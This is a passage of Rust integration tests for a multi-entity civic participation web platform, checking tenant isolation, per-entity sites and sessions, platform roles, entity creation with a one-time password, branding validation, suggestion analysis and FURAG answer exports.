            };
            if r_a.status == StatusCode::NOT_FOUND {
                missing += 1;
            }
            if class(&r_a) != class(&r_none)
                || r_a.status.is_success() && route.method == "GET" && r_none.status != r_a.status
            {
                failures.push(format!(
                    "{user:?} {} {theirs}: {} where an id that exists nowhere gives {}",
                    route.method,
                    class(&r_a),
                    class(&r_none)
                ));
            }
            if r_a.status.is_server_error() {
                failures.push(format!(
                    "{user:?} {} {theirs}: {}",
                    route.method, r_a.status
                ));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    // The routes of staff with an id answer 404 for the entity's admin, as for anybody.
    assert!(missing > 150, "only {missing} answers were 404");
    // Nothing of A changed.
    assert_eq!(a.last_change().await.unwrap(), a_changes);
    assert_eq!(
        a.audit_entries(&participa_store::AuditFilter::default())
            .await
            .unwrap()
            .len(),
        a_audit
    );
}

/// Each entity's site shows its own name and plans, by host name and under its prefix;
/// the first entity keeps the root; a session opened at one entity is nobody at the other.
async fn each_entity_has_its_own_site_by_host_name_and_by_prefix(db: TestDatabase) {
    let mut app = TestApp::new(db).await;
    app.to_status(&[
        Transition::Consolidate,
        Transition::Review,
        Transition::Approve,
        Transition::Publish,
    ])
    .await;
    let tunja = with_second_entity(&mut app).await;
    let root = app.get("/", None).await;
    assert_eq!(root.status, StatusCode::OK);
    assert!(root.body.contains("Caja Honor"));
    assert!(app.get("/planes/1", None).await.status.is_success());
    let under = app.get("/e/tunja/", None).await;
    assert_eq!(under.status, StatusCode::OK);
    assert!(under.body.contains("Alcaldía de Tunja"));
    assert!(!under.body.contains("Caja Honor"), "{}", under.body);
    // Its links stay under its prefix.
    assert!(under.body.contains(r#"href="/e/tunja/sugerencias""#));
    assert!(!under.body.contains(r#"href="/sugerencias""#));
    // Caja Honor's published plan does not exist there.
    assert_eq!(
        app.get("/e/tunja/planes/1", None).await.status,
        StatusCode::NOT_FOUND
    );
    // By its own host name, the same site at the root of the address.
    let mut r = Request::get("/").header(header::HOST, "participa.tunja.test");
    r = r.header(header::ACCEPT, "text/html");
    let by_host = app.send(r.body(Body::empty()).unwrap()).await;
    assert_eq!(by_host.status, StatusCode::OK);
    assert!(by_host.body.contains("Alcaldía de Tunja"));
    assert!(by_host.body.contains(r#"href="/sugerencias""#));
    // An unknown slug is a page that does not exist.
    assert_eq!(
        app.get("/e/nadie/", None).await.status,
        StatusCode::NOT_FOUND
    );
    // Sessions belong to their entity: Tunja's admin is nobody at Caja Honor, and
    // Caja Honor's admin cannot sign in at Tunja.
    let cookie = app.login_at("/e/tunja", "tunja-admin").await;
    assert!(cookie.starts_with("participa_sesion_tunja="), "{cookie}");
    let home = app.get("/e/tunja/admin", Some(&cookie)).await;
    assert_eq!(home.status, StatusCode::OK, "{}", home.body);
    let elsewhere = app.get("/admin", Some(&cookie)).await;
    assert_eq!(elsewhere.status, StatusCode::SEE_OTHER);
    let refused = app
        .post(
            "/e/tunja/ingresar",
            None,
            &[
                ("usuario", "admin"),
                ("clave", PASSWORD),
                ("siguiente", "/admin"),
            ],
        )
        .await;
    assert_ne!(
        refused.status,
        StatusCode::SEE_OTHER,
        "{:?}",
        refused.location
    );
    // The session cookie of Tunja lives under its prefix.
    let set = app
        .post(
            "/e/tunja/ingresar",
            None,
            &[
                ("usuario", "tunja-auditor"),
                ("clave", PASSWORD),
                ("siguiente", "/admin"),
            ],
        )
        .await;
    let cookie_header: Vec<String> = set
        .headers
        .get_all(header::SET_COOKIE)
        .iter()
        .map(|c| c.to_str().unwrap().to_string())
        .collect();
    assert!(
        cookie_header.iter().any(|c| c.contains("Path=/e/tunja")),
        "{cookie_header:?}"
    );
    assert!(tunja.plans().await.unwrap().is_empty());
}

/// Point 3 of the national platform: the national dashboard exists only for a platform
/// role; an observer sees the entities it was given, an administrator every one; the
/// same figures come as CSV, and every entity's as open data.
async fn the_national_dashboard_shows_the_entities_each_observer_was_given(db: TestDatabase) {
    use participa_domain::national::PlatformRole;
    use participa_store::PlatformGrant;
    let mut app = TestApp::new(db).await;
    app.to_status(&[
        Transition::Consolidate,
        Transition::Review,
        Transition::Approve,
        Transition::Publish,
    ])
    .await;
    let tunja = with_second_entity(&mut app).await;
    let plan = import_plan("seed.txt", SEED, &ReadOptions::default()).unwrap();
    tunja.insert_plan(&plan, None).await.unwrap();
    let admin = app
        .store
        .user_for_login("admin")
        .await
        .unwrap()
        .unwrap()
        .0
        .id;
    let cookie = app.login("admin").await;
    let c = Some(cookie.as_str());
    assert_eq!(
        app.get("/admin/nacional", c).await.status,
        StatusCode::NOT_FOUND
    );
    let grant = |role, entities: Vec<i64>| PlatformGrant { role, entities };
    app.store
        .set_platform_grant(
            admin,
            Some(&grant(PlatformRole::Observer, vec![tunja.entity_id()])),
            &Actor::system(),
        )
        .await
        .unwrap();
    let page = app.get("/admin/nacional?vigencia=2025", c).await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.body);
    assert!(page.body.contains("Alcaldía de Tunja"), "{}", page.body);
    assert!(page.body.contains("Sin publicar"));
    // Each entity's FURAG readiness as its staff last computed it (never, here).
    assert!(page.body.contains("FURAG (respuestas propuestas)"));
    assert!(page.body.contains("<td>Sin calcular</td>"), "{}", page.body);
    assert!(
        !page.body.contains("<th scope=\"row\">Caja Honor"),
        "{}",
        page.body
    );
    // Its home links to it.
    assert!(app
        .get("/admin", c)
        .await
        .body
        .contains(r#"href="/admin/nacional""#));
    // An administrator of the platform reads every entity.
    app.store
        .set_platform_grant(
            admin,
            Some(&grant(PlatformRole::Administrator, vec![])),
            &Actor::system(),
        )
        .await
        .unwrap();
    let csv = app.get("/admin/nacional/datos.csv?vigencia=2025", c).await;
    assert_eq!(csv.status, StatusCode::OK);
    let text = csv.body.trim_start_matches('\u{feff}');
    let lines: Vec<&str> = text.lines().collect();
    assert!(
        lines[0].starts_with("entidad,identificador,orden"),
        "{}",
        lines[0]
    );
    assert_eq!(lines.len(), 3, "{text}");
    assert!(text.contains("Caja Honor,entidad,nacional"), "{text}");
    assert!(text.contains("Publicado tarde"), "{text}");
    // The open data: every entity, with no compliance for a plan not published.
    let open = app.get("/datos/entidades.csv?vigencia=2025", None).await;
    assert_eq!(open.status, StatusCode::OK);
    assert!(
        open.body
            .contains("Alcaldía de Tunja,tunja,nacional,,,2025,Sin publicar,,,"),
        "{}",
        open.body
    );
    let bad = app.get("/admin/nacional?vigencia=dos", c).await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);
    assert!(
        bad.body.contains("vigencia «dos» no es un año"),
        "{}",
        bad.body
    );
    // Taken away, the page does not exist again.
    app.store
        .set_platform_grant(admin, None, &Actor::system())
        .await
        .unwrap();
    assert_eq!(
        app.get("/admin/nacional", c).await.status,
        StatusCode::NOT_FOUND
    );
}

/// The actions in an entity's audit log, newest first.
async fn audited(store: &Store) -> Vec<participa_store::AuditAction> {
    store
        .audit_entries(&participa_store::AuditFilter::default())
        .await
        .unwrap()
        .into_iter()
        .filter_map(|e| match e.action {
            participa_store::RecordedAction::Known(a) => Some(a),
            participa_store::RecordedAction::Unknown(_) => None,
        })
        .collect()
}

/// Point 3 of the national platform: a platform administrator adds an entity and its
/// first administrator on the web (both or neither); the generated password is shown
/// once and must be changed at the first sign-in, at the new entity's own site.
async fn a_platform_administrator_adds_an_entity_with_its_first_admin(db: TestDatabase) {
    use participa_domain::national::PlatformRole;
    use participa_store::PlatformGrant;
    let mut app = TestApp::new(db).await;
    let _tunja = with_second_entity(&mut app).await;
    let admin = app
        .store
        .user_for_login("admin")
        .await
        .unwrap()
        .unwrap()
        .0
        .id;
    let cookie = app.login("admin").await;
    let c = Some(cookie.as_str());
    const PAGE: &str = "/admin/plataforma/entidades";
    // Without the platform administration the page does not exist, not even for an
    // observer of every entity.
    assert_eq!(app.get(PAGE, c).await.status, StatusCode::NOT_FOUND);
    let grant = |role| PlatformGrant {
        role,
        entities: vec![],
    };
    app.store
        .set_platform_grant(
            admin,
            Some(&grant(PlatformRole::Observer)),
            &Actor::system(),
        )
        .await
        .unwrap();
    assert_eq!(app.get(PAGE, c).await.status, StatusCode::NOT_FOUND);
    assert_eq!(
        app.post(PAGE, c, &[("nombre", "Alcaldía de Duitama")])
            .await
            .status,
        StatusCode::NOT_FOUND
    );
    app.store
        .set_platform_grant(
            admin,
            Some(&grant(PlatformRole::Administrator)),
            &Actor::system(),
        )
        .await
        .unwrap();
    // Its home links to the page, which lists every entity with its address.
    assert!(app
        .get("/admin", c)
        .await
        .body
        .contains(&format!(r#"href="{PAGE}""#)));
    let list = app.get(PAGE, c).await;
    assert_eq!(list.status, StatusCode::OK, "{}", list.body);
    assert!(list.body.contains("2 entidades"), "{}", list.body);
    assert!(list.body.contains("Alcaldía de Tunja"));
    assert!(list.body.contains(r#"href="/e/tunja/""#));
    assert!(list.body.contains("participa.tunja.test"));
    // A wrong form keeps what was typed and names each field.
    let bad = app
        .post(
            PAGE,
            c,
            &[
                ("nombre", ""),
                ("identificador", "Mal Nombre"),
                ("orden", "territorial"),
                ("departamento", "1"),
                ("servidor", "https://duitama.gov.co/"),
                ("usuario", "diana duitama"),
                ("nombre_admin", "Diana Duitama"),
                ("correo_admin", "diana"),
            ],
        )
        .await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", bad.body);
    for text in [
        "El nombre de la entidad está vacío",
        "El identificador «Mal Nombre» no sirve",
        "El código DIVIPOLA «1» no sirve",
        "sin https://",
        "El usuario lleva letras sin tilde",
        "«diana» no parece un correo",
        r#"value="Mal Nombre""#,
        r#"value="Diana Duitama""#,
        r#"<option value="territorial" selected>"#,
    ] {
        assert!(bad.body.contains(text), "{text}: {}", bad.body);
    }
    let duitama = [
        ("nombre", "Alcaldía de Duitama"),
        ("identificador", ""),
        ("nit", "891.855.138-1"),
        ("orden", "territorial"),
        ("sector", "Gobierno territorial"),
        ("departamento", "15"),
        ("municipio", "15238"),
        ("servidor", "participa.duitama.test"),
        ("usuario", "tunja-admin"),
        ("nombre_admin", "Diana Duitama"),
        ("correo_admin", "diana@duitama.gov.co"),
    ];
    // A user name already taken (in another entity) leaves no entity behind.
    let taken = app.post(PAGE, c, &duitama).await;
    assert_eq!(taken.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        taken
            .body
            .contains("El usuario «tunja-admin» ya existe en la plataforma"),
        "{}",
        taken.body
    );
    assert_eq!(app.store.entities().await.unwrap().len(), 2);
    // A free one: the entity, its host and its administrator, the slug made from the name.
    let mut form = duitama.to_vec();
    form[8] = ("usuario", "Duitama-Admin");
    let done = app.post(PAGE, c, &form).await;
    assert_eq!(done.status, StatusCode::SEE_OTHER, "{}", done.body);
    assert_eq!(done.location.as_deref(), Some(PAGE));
    let shown = app.get(PAGE, c).await;
    assert!(
        shown
            .body
            .contains("Se agregó la entidad «Alcaldía de Duitama»"),
        "{}",
        shown.body
    );
    assert!(shown
        .body
        .contains(r#"href="/e/alcaldia-de-duitama/ingresar""#));
    assert!(shown.body.contains("<strong>duitama-admin</strong>"));
    let password = shown
        .body
        .split("<code>")
        .nth(1)
        .and_then(|s| s.split("</code>").next())
        .expect("the password, once")
        .to_string();
    assert!(password.len() >= 12, "{password}");
    // Once only.
    assert!(!app.get(PAGE, c).await.body.contains(&password));
    let record = app
        .store
        .entity_by_slug("alcaldia-de-duitama")
        .await
        .unwrap()
        .expect("the entity");
    assert_eq!(record.data.nit, "891855138-1");
    assert_eq!(record.data.municipality_code, "15238");
    assert_eq!(
        record.data.hosts,
        vec!["participa.duitama.test".to_string()]
    );
    let new = app.store.for_entity(record.id);
    let actions = audited(&new).await;
    assert!(
        actions.contains(&participa_store::AuditAction::EntityCreate),
        "{actions:?}"
    );
    assert!(
        actions.contains(&participa_store::AuditAction::UserCreate),
        "{actions:?}"
    );
    // Its administrator signs in at the new site, and changes the password first.
    let login = app
        .post(
            "/e/alcaldia-de-duitama/ingresar",
            None,
            &[
                ("usuario", "duitama-admin"),
                ("clave", &password),
                ("siguiente", "/admin"),
            ],
        )
        .await;
    assert_eq!(login.status, StatusCode::SEE_OTHER, "{}", login.body);
    assert!(
        login
            .location
            .as_deref()
            .is_some_and(|l| l.starts_with("/e/alcaldia-de-duitama/admin/cuenta/clave")),
        "{:?}",
        login.location
    );
    // The account belongs to the new entity only.
    let at_root = app
        .post(
            "/ingresar",
            None,
            &[("usuario", "duitama-admin"), ("clave", &password)],
        )
        .await;
    assert_ne!(at_root.status, StatusCode::SEE_OTHER);
    // An entity admin of Tunja is not a platform administrator.
    let tunja_cookie = app.login_at("/e/tunja", "tunja-admin").await;
    assert_eq!(
        app.get(&format!("/e/tunja{PAGE}"), Some(&tunja_cookie))
            .await
            .status,
        StatusCode::NOT_FOUND
    );
}

/// Point 1 of the national platform: an entity's admin sets how its site shows it
/// (name, footer, data policy, colour checked for contrast, logo checked for its
/// kind), audited; another entity's site does not change.
async fn an_entity_admin_sets_its_name_footer_colour_and_logo(db: TestDatabase) {
    let mut app = TestApp::new(db).await;
    let tunja = with_second_entity(&mut app).await;
    const PAGE: &str = "/e/tunja/admin/entidad";
    let reporter = app.login_at("/e/tunja", "tunja-reporter").await;
    assert_eq!(
        app.get(PAGE, Some(&reporter)).await.status,
        StatusCode::FORBIDDEN
    );
    let cookie = app.login_at("/e/tunja", "tunja-admin").await;
    let c = Some(cookie.as_str());
    // The navigation links it for the admin.
    assert!(app
        .get("/e/tunja/admin", c)
        .await
        .body
        .contains(&format!(r#"href="{PAGE}""#)));
    let form = app.get(PAGE, c).await;
    assert_eq!(form.status, StatusCode::OK, "{}", form.body);
    assert!(
        form.body.contains(r#"value="Alcaldía de Tunja""#),
        "{}",
        form.body
    );
    let mut fields = vec![
        ("nombre", "Alcaldía Mayor de Tunja"),
        ("nit", "891800846-1"),
        ("orden", "territorial"),
        ("sector", "Gobierno territorial"),
        ("departamento", "15"),
        ("municipio", "15001"),
        ("direccion", "Calle 19 # 9-95"),
        ("telefono", "608 742 3272"),
        ("correo", "contactenos@tunja.gov.co"),
        ("horario", "Lunes a viernes, 8:00 a 12:00 y 14:00 a 18:00"),
        ("politica", "ftp://tunja.gov.co/datos"),
        ("contacto_datos", "protecciondatos@tunja.gov.co"),
        ("remitente", "participa@tunja"),
        ("color", "#777777"),
    ];
    let bad = app.post(PAGE, c, &fields).await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", bad.body);
    for text in [
        "4,5 a 1",
        "«ftp://tunja.gov.co/datos» no es una dirección web",
        "«participa@tunja» no parece un correo",
        r#"value="Calle 19 # 9-95""#,
        r##"value="#777777""##,
    ] {
        assert!(bad.body.contains(text), "{text}: {}", bad.body);
    }
    fields[10] = ("politica", "https://www.tunja.gov.co/datos-personales");
    fields[12] = ("remitente", "participa@tunja.gov.co");
    fields[13] = ("color", "#0B5A32");
    let saved = app.post(PAGE, c, &fields).await;
    assert_eq!(saved.status, StatusCode::SEE_OTHER, "{}", saved.body);
    assert_eq!(saved.location.as_deref(), Some(PAGE));
    assert!(app
        .get(PAGE, c)
        .await
        .body
        .contains("Se guardaron los datos de la entidad"));
    // Its public site shows them at once: name, footer, colour, data policy.
    let home = app.get("/e/tunja/", None).await;
    assert_eq!(home.status, StatusCode::OK);
    for text in [
        "Alcaldía Mayor de Tunja",
        "Calle 19 # 9-95",
        "608 742 3272",
        "contactenos@tunja.gov.co",
        r#"href="/e/tunja/static/entidad.css?v=1""#,
    ] {
        assert!(home.body.contains(text), "{text}: {}", home.body);
    }
    let css = app.get("/e/tunja/static/entidad.css", None).await;
    assert_eq!(css.status, StatusCode::OK);
    assert!(css.body.contains("--brand: #0b5a32"), "{}", css.body);
    let record = tunja.entity_record().await.unwrap();
    assert_eq!(
        record.data.privacy_policy_url.as_deref(),
        Some("https://www.tunja.gov.co/datos-personales")
    );
    assert_eq!(record.data.mail_from, "participa@tunja.gov.co");
    // Caja Honor's site is as it was.
    let root = app.get("/", None).await;
    assert!(!root.body.contains("entidad.css"));
    assert!(!root.body.contains("Calle 19"));
    assert_eq!(
        app.get("/static/entidad.css", None).await.status,
        StatusCode::NOT_FOUND
    );
    // The logo: an SVG (which may carry script) is refused, a PNG kept and shown.
    let svg = app
        .post_files(
            "/e/tunja/admin/entidad/logo",
            c,
            &[],
            &[(
                "logo",
                "logo.svg",
                b"<svg xmlns=\"http://www.w3.org/2000/svg\"/>",
            )],
        )
        .await;
    assert_eq!(svg.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", svg.body);
    assert!(
        svg.body.contains("no es una imagen PNG, JPEG ni WebP"),
        "{}",
        svg.body
    );
    let png: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR";
    let up = app
        .post_files(
            "/e/tunja/admin/entidad/logo",
            c,
            &[],
            &[("logo", "escudo.png", png)],
        )
        .await;
    assert_eq!(up.status, StatusCode::SEE_OTHER, "{}", up.body);
    let logo = app.get("/e/tunja/static/logo", None).await;
    assert_eq!(logo.status, StatusCode::OK);
    assert!(app
        .get("/e/tunja/", None)
        .await
        .body
        .contains(r#"src="/e/tunja/static/logo?v=2""#));
    let gone = app.post("/e/tunja/admin/entidad/logo/quitar", c, &[]).await;
    assert_eq!(gone.status, StatusCode::SEE_OTHER);
    assert_eq!(
        app.get("/e/tunja/static/logo", None).await.status,
        StatusCode::NOT_FOUND
    );
    // Audited in Tunja's log, with what changed.
    let entries = tunja
        .audit_entries(&participa_store::AuditFilter {
            action: Some(participa_store::AuditAction::EntityUpdate),
            ..Default::default()
        })
        .await
        .unwrap();
    assert_eq!(entries.len(), 3, "{entries:?}");
    let first = entries.last().unwrap();
    assert!(
        first
            .after
            .as_deref()
            .unwrap_or_default()
            .contains("color: #0b5a32"),
        "{first:?}"
    );
    assert!(audited(&app.store)
        .await
        .iter()
        .all(|a| *a != participa_store::AuditAction::EntityUpdate));
}

/// Issue 19, part 2: staff read the suggestions as themes and campaigns, from the
/// suggestions page; quotes carry no contact data; the page needs a staff session.
async fn texts_are_read_as_themes_and_campaigns(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let today = participa_app::dates::today();
    let corpus = include_str!("../../text/tests/data/corpus.tsv");
    let texts: Vec<&str> = corpus
        .lines()
        .filter(|l| !l.starts_with('#'))
        .filter_map(|l| l.split('\t').nth(2))
        .take(80)
        .collect();
    let campaign = "Exigimos que la Caja baje la tasa de interés del crédito hipotecario para los suboficiales y sus familias este año";
    let mut all: Vec<String> = texts.iter().map(|t| t.to_string()).collect();
    for name in ["sargento Ruiz", "cabo Díaz", "soldado Mora", "sargento Gil"] {
        all.push(format!("{campaign}. Atentamente, {name}"));
    }
    all.push(
        "Mi subsidio de vivienda no llega, escríbanme a ana.perez@correo.co o al 310 555 1234"
            .into(),
    );
    for (i, t) in all.iter().enumerate() {
        let seed = ((i as u64 + 7).wrapping_mul(0x9E37_79B9_7F4A_7C15)).to_le_bytes();
        let code = participa_domain::participation::TrackingCode::from_random(seed);
        let text: String = t.chars().take(900).collect();
        let s = participa_domain::participation::NewSuggestion::check("vivienda", &text).unwrap();
        app.store
            .create_suggestion(&code, &s, None, today)
            .await
            .unwrap();
    }
    let admin = app.login("admin").await;
    let list = app.get("/admin/sugerencias", Some(&admin)).await;
    assert!(
        list.body.contains("href=\"/admin/analisis/sugerencias\""),
        "{}",
        list.body
    );
    let index = app.get("/admin/analisis", Some(&admin)).await;
    assert_eq!(index.status, StatusCode::OK, "{}", index.body);
    assert!(index.body.contains("Sugerencias recibidas"));
    let page = app.get("/admin/analisis/sugerencias", Some(&admin)).await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.body);
    assert!(
        page.body
            .contains(&format!("Se leyeron {} textos", all.len())),
        "{}",
        page.body
    );
    assert!(page.body.contains("Tema 1:"));
    assert!(page.body.contains("Palabras que lo distinguen"));
    assert!(page.body.contains("Textos casi idénticos"));
    assert!(
        page.body
            .contains("<td>4</td><td class=\"text\">«Exigimos que la Caja baje"),
        "{}",
        page.body
    );
    assert!(!page.body.contains("ana.perez@correo.co"));
    assert!(!page.body.contains("310 555 1234"));
    // Staff set the number of themes; a number out of range is the analysis's choice.
    let three = app
        .get("/admin/analisis/sugerencias?temas=3", Some(&admin))
        .await;
    assert!(three.body.contains("Tema 3:") && !three.body.contains("Tema 4:"));
    assert!(three
        .body
        .contains("<option value=\"3\" selected>3</option>"));
    let odd = app
        .get("/admin/analisis/sugerencias?temas=%27x", Some(&admin))
        .await;
    assert_eq!(odd.status, StatusCode::OK);
    assert!(odd.body.contains("número elegido por el análisis"));
    // The same texts, the same themes.
    let again = app
        .get("/admin/analisis/sugerencias?temas=3", Some(&admin))
        .await;
    let themes = |b: &str| {
        b.lines()
            .filter(|l| l.contains("<h2 id=\"tema-"))
            .map(str::to_string)
            .collect::<Vec<_>>()
    };
    assert_eq!(themes(&three.body), themes(&again.body));
    let anonymous = app.get("/admin/analisis/sugerencias", None).await;
    assert_eq!(anonymous.status, StatusCode::SEE_OTHER);
    let missing = app
        .get("/admin/analisis/audiencias/999999", Some(&admin))
        .await;
    assert_eq!(missing.status, StatusCode::NOT_FOUND);
}

/// Issue 19, part 1: the planning office opens the plan's FURAG answers from the plan
/// page, each question with its state, answer and what is missing, and downloads them
/// as a workbook with one row per question and the evidence index.
async fn the_furag_answers_are_proposed_from_the_plan(db: TestDatabase) {
    use calamine::Data;
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let plan = app.get("/admin/planes/1", Some(&admin)).await;
    assert!(
        plan.body.contains("href=\"/admin/planes/1/furag\""),
        "{}",
        plan.body
    );
    let page = app.get("/admin/planes/1/furag", Some(&admin)).await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.body);
    assert!(
        page.body.contains("FURAG 2025: respuestas propuestas"),
        "{}",
        page.body
    );
    for code in ["PCI200", "PCI205", "PCI217", "PCI218"] {
        assert!(page.body.contains(&format!("id=\"q-{code}\"")), "{code}");
    }
    assert!(page.body.contains("Respuesta propuesta:"));
    assert!(page.body.contains("Pregunta por confirmar"));
    assert!(page.body.contains("Qué falta:"));
    let xlsx = app
        .get("/admin/planes/1/furag/furag.xlsx", Some(&admin))
        .await;
    assert_eq!(xlsx.status, StatusCode::OK);
    let sheet = xlsx_sheet(&xlsx.bytes, "Preguntas");
    let codes: Vec<String> = sheet
        .rows()
        .filter_map(|r| match &r[0] {
            Data::String(s) if s.starts_with("PCI") => Some(s.clone()),
            _ => None,
        })
        .collect();
    assert_eq!(codes.len(), 19, "{codes:?}");
    assert_eq!(codes[0], "PCI200");
    let pdf = app
        .get("/admin/planes/1/furag/furag.pdf", Some(&admin))
        .await;
    assert_eq!(pdf.status, StatusCode::OK);
    assert!(pdf_text(&pdf.bytes).contains("PCI205"));
    assert_eq!(
        app.get("/admin/planes/1/furag/otro.txt", Some(&admin))
            .await
            .status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        app.get("/admin/planes/999999/furag", Some(&admin))
            .await
            .status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        app.get("/admin/planes/1/furag", None).await.status,
        StatusCode::SEE_OTHER
    );
}
